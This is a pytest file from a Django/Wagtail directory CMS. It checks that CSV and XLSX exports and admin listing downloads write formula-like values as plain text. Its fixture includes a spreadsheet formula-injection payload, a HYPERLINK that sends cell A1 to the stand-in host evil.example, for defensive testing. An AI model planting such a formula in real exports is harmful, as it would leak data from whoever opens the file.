"""Item 6 of the security review: a value that a spreadsheet program would run as a formula is written as
text in every export: the directory .csv and .xlsx, and Wagtail's CSV downloads of the admin listings."""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from cms.spreadsheet import export_directory, import_directory, write_spreadsheet
from tests.factories import OrganizationFactory, ServiceFactory, comune

from .conftest import client_for, make_editor
from .conftest import published as publish_records

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri")'
STARTS = ["=1+1", "+39 0341 123456", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture
def evil_service():
    organization = OrganizationFactory(name=ATTACK, slug="evil", municipality=comune("Lecco"))
    service = ServiceFactory(organization=organization, name_it="=1+1", comuni=["Lecco"], phone="+39 0341 123456")
    publish_records({"organization": organization, "service": service})
    return service


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_directory_csv_writes_formulas_as_text(evil_service):
    row = csv_rows(write_spreadsheet(export_directory(), "d.csv"))[0]
    assert row["organization"] == "'" + ATTACK
    assert row["name_it"] == "'=1+1"
    assert row["phone"] == "'+39 0341 123456"


def test_the_directory_xlsx_has_no_formula_cells(evil_service):
    sheet = load_workbook(io.BytesIO(write_spreadsheet(export_directory(), "d.xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["organization"].value == ATTACK and cells["organization"].data_type == "s"
    assert cells["name_it"].data_type == "s"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_export_with_neutralised_cells_imports_unchanged(evil_service, extension):
    result = import_directory(data=write_spreadsheet(export_directory(), f"d.{extension}"), filename=f"d.{extension}")
    assert result.ok, [str(error) for error in result.errors]
    assert result.unchanged == 1 and not result.updated
    evil_service.refresh_from_db()
    assert evil_service.organization.name == ATTACK and evil_service.phone == "+39 0341 123456"


@pytest.mark.parametrize("start", STARTS)
def test_every_formula_start_is_neutralised(start):
    from cms.spreadsheet.formulas import neutralise, restore

    assert neutralise(start) == "'" + start
    assert restore(neutralise(start)) == start
    assert neutralise("Caritas") == "Caritas" and neutralise(12) == 12


def test_the_admin_listing_csv_download_writes_formulas_as_text(evil_service):
    client = client_for(make_editor("redazione-rete"))
    response = client.get(reverse("wagtailsnippets_cms_organization:list") + "?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[1] for row in rows[1:]]
    assert rows[0][1] in ("Name", "Nome"), rows[0]
    assert names == ["'" + ATTACK]
